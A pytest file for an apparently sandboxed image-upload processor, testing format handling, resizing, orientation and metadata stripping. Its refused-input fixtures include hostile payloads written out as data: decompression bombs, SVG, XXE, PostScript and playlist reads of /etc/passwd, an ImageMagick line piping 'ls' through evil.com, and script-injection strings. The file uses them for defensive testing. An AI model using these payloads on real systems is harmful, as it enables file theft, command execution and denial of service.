"""Pictures that phones make, and pictures that are made to do harm, in real children."""

from __future__ import annotations

import struct
import time
import zlib
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import cv2
import numpy as np
import pytest

from shared.clock import SystemClock
from shared.errors import UnsupportedMediaError
from shared.media.isolated import IsolatedMedia
from shared.media.report import Still

JPEG, PNG, WEBP, GIF = ".jpg", ".png", ".webp", ".gif"
MEDIA = IsolatedMedia(clock=SystemClock())


def scene(width: int = 640, height: int = 480) -> Any:
    """A picture with edges, a gradient and a dark square in its upper left corner."""
    made = np.zeros((height, width, 3), np.uint8)
    made[:] = np.linspace(60, 200, width).astype(np.uint8)[None, :, None]
    cv2.circle(made, (width // 2, height // 2), min(width, height) // 4, (40, 90, 220), -1)
    made[: height // 4, : width // 4] = 0
    return made


def coded(form: str, picture: Any) -> bytes:
    written, data = cv2.imencode(form, picture)
    assert written
    return data.tobytes()


def chunk(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def png(
    width: int, height: int, pixels: bytes, *, depth: int = 8, colour: int = 2, more: bytes = b""
) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    packed = chunk(b"IDAT", zlib.compress(pixels, 9))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + more + packed + chunk(b"IEND", b"")


def with_segment(jpeg: bytes, marker: int, body: bytes) -> bytes:
    return jpeg[:2] + struct.pack(">BBH", 0xFF, marker, len(body) + 2) + body + jpeg[2:]


def exif(*tags: tuple[int, int], rest: bytes = b"") -> bytes:
    """Exif data of short values."""
    entries = b"".join(struct.pack(">HHIHH", tag, 3, 1, value, 0) for tag, value in tags)
    return b"Exif\0\0MM\0\x2a\0\0\0\x08" + struct.pack(">H", len(tags)) + entries + b"\0\0\0\0" + rest


ORIENTATION, PLACE = 0x0112, 0x8825
SECRET = b"48.8583N 2.2945E"


async def looked_at(data: bytes, tmp_path: Path, name: str = "upload") -> tuple[Still, Any]:
    """Return what is told of a file, and the copy's pixels."""
    path, directory = tmp_path / name, tmp_path / "out"
    path.write_bytes(data)
    directory.mkdir(exist_ok=True)
    still = await MEDIA.picture(path, directory, deadline=time.monotonic() + 90)
    copy = (directory / still.file).read_bytes()
    assert copy.startswith(b"\xff\xd8\xff")
    assert copy.endswith(b"\xff\xd9")
    assert SECRET not in copy
    picture = cv2.imdecode(np.frombuffer(copy, np.uint8), cv2.IMREAD_COLOR)
    assert picture is not None
    assert picture.shape == (still.height, still.width, 3)
    assert max(still.width, still.height) <= 1_344
    return still, picture


@pytest.mark.parametrize("form", [JPEG, PNG, WEBP, GIF])
async def test_every_format_is_looked_at_whatever_it_is_called(form: str, tmp_path: Path) -> None:
    still, picture = await looked_at(coded(form, scene()), tmp_path, "holiday.exe")
    assert (still.source_width, still.source_height, still.width, still.height) == (640, 480, 640, 480)
    assert still.form == {JPEG: "jpeg", PNG: "png", WEBP: "webp", GIF: "gif"}[form]
    assert (still.damaged, still.empty, still.located) == (False, False, False)
    assert still.sharpness > 15
    assert float(np.abs(picture.astype(int) - scene().astype(int)).mean()) < 12


async def test_a_phones_picture_is_shrunk_and_turned(tmp_path: Path) -> None:
    """24 megapixels, held upright, with a place in its file."""
    jpeg = coded(JPEG, scene(6_000, 4_000))
    made = with_segment(jpeg, 0xE1, exif((ORIENTATION, 6), (PLACE, 1), rest=SECRET))
    still, picture = await looked_at(made, tmp_path)
    assert (still.source_width, still.source_height) == (4_000, 6_000)
    assert (still.width, still.height) == (896, 1_344)
    assert still.located
    assert picture[20:200, -100:-20].mean() < 30  # the dark corner went to the right
    assert still.cpu_seconds < 12


async def test_sixteen_bits_and_shades_of_grey(tmp_path: Path) -> None:
    deep = (scene().astype(np.uint16) << 8) | 0x80
    for data in (coded(PNG, deep), coded(PNG, deep[:, :, 0]), coded(PNG, scene()[:, :, 0])):
        still, picture = await looked_at(data, tmp_path)
        assert (still.width, still.height) == (640, 480)
        assert 60 < picture.mean() < 160


@pytest.mark.parametrize("depth", [np.uint8, np.uint16])
async def test_what_is_transparent_shows_white(depth: Any, tmp_path: Path) -> None:
    """What hides under it is nothing that anybody sees."""
    most = np.iinfo(depth).max
    picture = np.zeros((100, 100, 4), depth)
    picture[:, 50:, 3] = most
    _, shown = await looked_at(coded(PNG, picture), tmp_path)
    assert shown[:, :45].mean() > 250
    assert shown[:, 55:].mean() < 5


async def test_cmyk_is_shown_in_its_colours(tmp_path: Path) -> None:
    still, picture = await looked_at(_cmyk_jpeg(), tmp_path)
    assert (still.width, still.height) == (64, 64)
    assert picture.shape[2] == 3


@pytest.mark.parametrize("form", [JPEG, PNG, WEBP, GIF])
async def test_a_truncated_picture_is_looked_at_as_far_as_it_goes_or_called_that(
    form: str, tmp_path: Path
) -> None:
    data = coded(form, scene())
    try:
        still, _ = await looked_at(data[: len(data) * 2 // 3], tmp_path)
    except UnsupportedMediaError as refused:
        assert "cut off" in refused.message  # noqa: PT017 - either is right, by format
    else:
        assert still.damaged


async def test_a_blurred_picture_measures_less_sharp(tmp_path: Path) -> None:
    sharp, _ = await looked_at(coded(JPEG, scene()), tmp_path)
    soft, _ = await looked_at(coded(JPEG, cv2.GaussianBlur(scene(), (0, 0), 12)), tmp_path)
    assert soft.sharpness < sharp.sharpness / 4


async def test_a_huge_exif_and_a_huge_comment_are_left_behind(tmp_path: Path) -> None:
    made = coded(JPEG, scene())
    for _ in range(30):
        made = with_segment(made, 0xFE, SECRET * 4_000)
    made = with_segment(made, 0xE1, exif((ORIENTATION, 1), rest=SECRET * 4_000))
    still, _ = await looked_at(made, tmp_path)
    assert still.size_bytes > 1_900_000


async def test_another_file_behind_a_picture_is_left_behind(tmp_path: Path) -> None:
    """A polyglot: a picture to one reader, an archive or a page to another."""
    for form in (JPEG, PNG, GIF):
        still, _ = await looked_at(coded(form, scene()) + b"PK\x03\x04" + SECRET, tmp_path)
        assert (still.width, still.height) == (640, 480)
    page = with_segment(coded(JPEG, scene()), 0xFE, b"<script>alert(1)</script>" + SECRET)
    await looked_at(page, tmp_path)


async def test_something_that_moves_is_looked_at_once(tmp_path: Path) -> None:
    animation = cv2.Animation()
    animation.frames, animation.durations = [scene(), 255 - scene()], [100, 100]
    written, data = cv2.imencodeanimation(GIF, animation)
    assert written
    still, picture = await looked_at(data.tobytes(), tmp_path)
    assert still.animated
    assert picture[:100, :100].mean() < 20


def _refused() -> Mapping[str, bytes]:
    jpeg, whole = coded(JPEG, scene()), coded(PNG, scene())
    one = png(1, 1, b"\0\0\0\0")
    lying = bytearray(jpeg)
    frame = jpeg.index(b"\xff\xc0")
    lying[frame + 5 : frame + 9] = struct.pack(">HH", 65_500, 65_500)
    return {
        "a PNG bomb of 225 megapixels in 700 KB": png(15_000, 15_000, bytes(45_015_000)),
        "a PNG that says two billion pixels a side": png(2**31 - 1, 2**31 - 1, b"\0"),
        "a PNG of no size": png(0, 0, b""),
        "a JPEG that says 65,500 pixels a side": bytes(lying),
        "a GIF that says 65,535 pixels a side": b"GIF89a\xff\xff\xff\xff\x80\0\0\0\0\0\xff\xff\xff;",
        "a WebP that says 16,777,216 pixels a side": b"RIFF\x16\0\0\0WEBPVP8X\x0a\0\0\0\0\0\0\0"
        + b"\xff" * 6,
        "one pixel": one,
        "one pixel in a GIF": b"GIF89a\1\0\1\0\x80\0\0\0\0\0\xff\xff\xff,\0\0\0\0\1\0\1\0\0\2\2D\1\0;",
        "a thread": png(16, 9_000, (b"\0" + bytes(48)) * 9_000),
        "an SVG": b'<svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/passwd"/></svg>',
        "an SVG with a declaration": b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        "ImageMagick's language": b"push graphic-context\nfill 'url(https://evil.com/|ls)'",
        "PostScript": b"%!PS-Adobe-3.0\n(/etc/passwd) (r) file",
        "a TIFF": b"II*\0\x08\0\0\0" + bytes(200),
        "a BMP": coded(".bmp", scene(32, 32)),
        "an AVIF": coded(".avif", scene(64, 64)),
        "a page": b"<html><body onload=alert(1)>",
        "a playlist": b"#EXTM3U\n#EXTINF:1,\nfile:///etc/passwd\n",
        "nothing": b"",
        "the beginning of a JPEG": jpeg[:30],
        "the beginning of a PNG": whole[:20],
        "a JPEG without a frame": b"\xff\xd8\xff\xda\0\x08\1\1\0\0\x3f\0" + bytes(500),
        "a JPEG whose segment leads nowhere": b"\xff\xd8\xff\xe1\xff\xff" + bytes(10),
        "a lossless JPEG": jpeg.replace(b"\xff\xc0", b"\xff\xc3", 1),
        "a PNG whose pixels are noise": png(640, 480, b"x")[:60] + b"\xff" * 900,
        "a magic number and noise": b"\xff\xd8\xff" + bytes(range(256)) * 20,
        "a video": b"\0\0\0\x18ftypmp42" + bytes(200),
    }


REFUSED = _refused()


@pytest.mark.parametrize("name", REFUSED)
async def test_what_is_no_picture_or_too_much_is_refused(name: str, tmp_path: Path) -> None:
    """With a reason, in little time, and nothing is written."""
    begun = time.monotonic()
    with pytest.raises(UnsupportedMediaError) as refused:
        await looked_at(REFUSED[name], tmp_path)
    assert refused.value.message != UnsupportedMediaError().message
    assert "/etc" not in refused.value.message
    assert list((tmp_path / "out").iterdir()) == []
    assert time.monotonic() - begun < 60


def _cmyk_jpeg() -> bytes:
    """Four components without subsampling, each a constant: Huffman tables with one code each would do."""
    from av import VideoFrame  # noqa: F401 - FFmpeg writes no CMYK: it is built by hand

    quant = b"\xff\xdb\0\x43\0" + b"\1" * 64
    frame = b"\xff\xc0" + struct.pack(">HBHHB", 8 + 3 * 4, 8, 64, 64, 4)
    frame += b"".join(bytes((n, 0x11, 0)) for n in (1, 2, 3, 4))
    #: DC: category 0 is code 0; AC: end of block is code 0.
    tables = b"\xff\xc4" + struct.pack(">HB", 20, 0x00) + b"\1" + bytes(15) + b"\0"
    tables += b"\xff\xc4" + struct.pack(">HB", 20, 0x10) + b"\1" + bytes(15) + b"\0"
    scan = b"\xff\xda" + struct.pack(">HB", 6 + 2 * 4, 4)
    scan += b"".join(bytes((n, 0)) for n in (1, 2, 3, 4)) + b"\0\x3f\0"
    blocks = 64 * 4  # two bits each, both zero: the difference is 0, and the block ends
    adobe = b"\xff\xee\0\x0eAdobe\0\x64\0\0\0\0\0"
    return b"\xff\xd8" + adobe + quant + frame + tables + scan + bytes(blocks * 2 // 8) + b"\xff\xd9"
